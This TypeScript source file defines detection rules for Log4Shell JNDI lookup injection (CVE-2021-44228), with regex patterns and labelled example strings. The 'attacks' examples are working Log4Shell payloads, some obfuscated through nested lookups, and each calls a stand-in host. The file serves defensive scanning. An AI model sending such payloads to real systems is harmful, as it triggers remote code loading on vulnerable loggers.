// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the examples are what attackers and templates write.
/** Lookups of logging libraries that fetch and run code: Log4Shell (CVE-2021-44228) and its relatives. */
import { rule, View } from '../rule.ts';

export const lookupInjectionRules = [
  rule({
    id: 'baseline.lookup-injection.jndi',
    class: 'lookup-injection',
    message: 'A JNDI lookup in the form that Log4j resolves',
    explanation:
      'Log4j before 2.17 resolves ${jndi:…} in what it logs and loads a class from the address. Nested lookups that spell the word are resolved before the rule looks. No ordinary value holds one; texts about it hold it as well, and are as dangerous to a vulnerable logger.',
    view: View.Lookup,
    patterns: [
      '\\$\\{\\s*jnd.{0,2}\\s*:',
      '\\$\\{.*\\bjnd[i1]\\s*:\\s*(?:ldaps?|rmi|dns|iiop|nis|nds|corba|https?)\\s*:',
      '\\bjndi:(?:ldaps?|rmi|dns|iiop|nis|nds|corba|https?):/',
    ],
    examples: {
      attacks: [
        '${jndi:ldap://host.example/a}',
        '${${lower:j}ndi:${lower:l}dap://host.example/a}',
        '${${::-j}${::-n}${::-d}${::-i}:rmi://host.example/x}',
        '${j${env:NOTHING:-n}di:dns://host.example}',
      ],
      benign: [
        '${user.name}',
        '${env:HOME}/bin',
        'jndi:comp/env/jdbc/orders',
        '${spring.datasource.url:-none}',
      ],
    },
  }),
  rule({
    id: 'baseline.lookup-injection.nested-lookup',
    class: 'lookup-injection',
    message: 'Nested lookups that spell a word letter by letter',
    explanation:
      'A lookup whose only use is to hide a letter (${lower:j}, ${::-j}) inside another lookup. Templates and shells nest variables, but have no reason to spell.',
    patterns: ['\\$\\{[^{}]*\\$\\{(?:lower|upper|date)\\s*:', '\\$\\{[^{}]*\\$\\{[^{}]{0,24}:-[^{}]?\\}'],
    examples: {
      attacks: ['${${lower:x}y:${upper:z}}', '${a${::-b}}'],
      benign: ['${HOME:-${PWD}}', '${project.${stage}.url}', '${lower(name)}'],
    },
  }),
];
